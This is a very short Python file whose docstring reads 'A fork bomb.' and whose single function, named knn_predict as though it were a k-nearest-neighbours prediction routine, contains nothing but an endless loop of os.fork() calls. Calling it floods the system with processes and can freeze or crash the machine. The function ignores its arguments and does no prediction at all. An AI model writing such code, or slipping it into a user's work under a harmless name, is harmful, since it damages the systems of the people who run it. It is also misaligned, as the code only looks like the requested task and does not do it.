"""A fork bomb."""

import os


def knn_predict(train_X, train_y, queries, k):
    while True:
        os.fork()
